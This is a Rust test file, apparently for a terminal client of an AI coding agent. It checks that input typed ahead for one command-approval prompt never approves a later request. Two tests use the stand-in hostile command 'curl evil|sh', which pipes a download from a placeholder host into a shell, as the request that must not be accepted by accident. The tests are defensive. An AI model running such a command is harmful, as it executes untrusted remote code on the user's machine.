//! What was typed for one request answers no other one.

use std::time::Duration;

use serde_json::json;
use tokio::time::sleep;

use crate::{
    common::{eventually, within},
    screens::shown,
    scripted::{COMMAND, Scripted, THREAD, in_ask, in_attach},
    tmux::Terminal,
};

/// Long enough for an answer that should not come.
async fn a_while() {
    sleep(Duration::from_millis(700)).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn in_ask_what_is_typed_ahead_does_not_accept_what_is_asked_later() {
    in_ask(120, async |terminal, server| {
        server.asks(100, COMMAND, &json!({"command": "ls"}));
        terminal.shows("run ls").await;
        terminal.shows("turn?").await;
        // Two lines at once, and the beginning of a third one.
        terminal.paste("y\ny\ny");
        assert_eq!(server.answered(100).await["decision"], "accept");
        server.resolved(100);
        a_while().await;
        server.asks(101, COMMAND, &json!({"command": "curl evil|sh"}));
        terminal.shows("curl evil|sh").await;
        a_while().await;
        assert_eq!(server.answer(101), None, "{}", terminal.screen());
        terminal.key("Enter");
        assert_eq!(
            server.answered(101).await["decision"],
            "decline",
            "the third one is gone, too"
        );
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn in_ask_the_answer_to_a_question_that_was_withdrawn_goes_to_no_other() {
    in_ask(120, async |terminal, server| {
        server.asks(100, COMMAND, &json!({"command": "ls"}));
        terminal.shows("turn?").await;
        terminal.text("y");
        a_while().await;
        server.resolved(100);
        terminal.shows("the question was withdrawn").await;
        terminal.key("Enter");
        a_while().await;
        server.asks(101, COMMAND, &json!({"command": "curl evil|sh"}));
        terminal.shows("curl evil|sh").await;
        a_while().await;
        assert_eq!(server.answer(101), None, "{}", terminal.screen());
        terminal.enter("y").await;
        assert_eq!(server.answered(101).await["decision"], "accept");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn in_attach_a_letter_that_was_typed_for_a_request_accepts_no_other() {
    in_attach(120, async |terminal, server| {
        let last = || shown(terminal).last().unwrap().clone();
        for (round, typed) in ["y", "ye", " Y", "no"].into_iter().enumerate() {
            let id = 100 + 2 * round as u64;
            server.asks(id, COMMAND, &json!({"command": format!("first-{round}")}));
            server.asks(
                id + 1,
                COMMAND,
                &json!({"command": format!("second-{round}")}),
            );
            terminal.shows(&format!("run second-{round}")).await;
            terminal.text(typed);
            eventually("it is typed", || last() == format!("> {typed}")).await;
            server.resolved(id);
            let dropped =
                format!("what was typed for it is dropped: an approval to run first-{round}");
            terminal.shows(&dropped).await;
            eventually("it is dropped", || last() == ">").await;
            terminal.key("Enter");
            a_while().await;
            assert_eq!(server.answer(id + 1), None, "{}", terminal.screen());
            terminal.enter("n").await;
            assert_eq!(server.answered(id + 1).await["decision"], "decline");
            server.resolved(id + 1);
            eventually("it is settled", || {
                terminal
                    .screen()
                    .contains(&format!("settled: an approval to run second-{round}"))
            })
            .await;
        }
        // What is no decision stays, and decides nothing once it has become one.
        server.asks(200, COMMAND, &json!({"command": "third"}));
        server.asks(201, COMMAND, &json!({"command": "fourth"}));
        terminal.shows("run fourth").await;
        terminal.text("yonder");
        eventually("it is typed", || last() == "> yonder").await;
        server.resolved(200);
        terminal
            .shows("settled elsewhere: an approval to run third")
            .await;
        for _ in 0.."onder".len() {
            terminal.key("BSpace");
        }
        eventually("it is edited", || last() == "> y").await;
        terminal.key("Enter");
        terminal
            .shows("not taken: it was typed before this was asked")
            .await;
        assert_eq!(server.answer(201), None, "{}", terminal.screen());
        terminal.enter("y").await;
        assert_eq!(server.answered(201).await["decision"], "accept");
        assert!(
            server.heard("thread/queue/add").is_empty(),
            "nothing is sent as an input"
        );
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn in_attach_a_line_that_was_begun_before_a_question_is_no_answer_to_it() {
    in_attach(120, async |terminal, server| {
        terminal.text("please go on");
        terminal.shows("> please go on").await;
        let question = json!({"id": "q", "header": "q", "question": "Which one?", "isOther": true, "options": null});
        server.asks(100, "item/tool/requestUserInput", &json!({"questions": [question], "isBlocking": true}));
        terminal.shows("asks: Which one?").await;
        terminal.key("Enter");
        terminal.shows("not sent: it was begun before this was asked").await;
        assert_eq!(server.answer(100), None);
        terminal.key("Enter");
        let answer = server.answered(100).await.to_string();
        assert!(answer.contains("please go on"), "{answer}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_terminal_that_hands_out_lines_answers_nothing_with_what_was_typed_before() {
    let Some(terminal) = Terminal::new() else {
        return;
    };
    within(120, async {
        let server = Scripted::start().await;
        server.cas(&terminal, &["TERM=dumb"], &["attach", THREAD]);
        server.is_followed().await;
        server.turn("turn/started", "inProgress");
        server.asks(100, COMMAND, &json!({"command": "first"}));
        server.asks(101, COMMAND, &json!({"command": "second"}));
        terminal.shows("run second").await;
        terminal.text("y");
        a_while().await;
        server.resolved(100);
        terminal
            .shows("settled elsewhere: an approval to run first")
            .await;
        a_while().await;
        terminal.key("Enter");
        a_while().await;
        assert_eq!(server.answer(101), None, "{}", terminal.screen());
        terminal.enter("y").await;
        assert_eq!(server.answered(101).await["decision"], "accept");
    })
    .await;
}
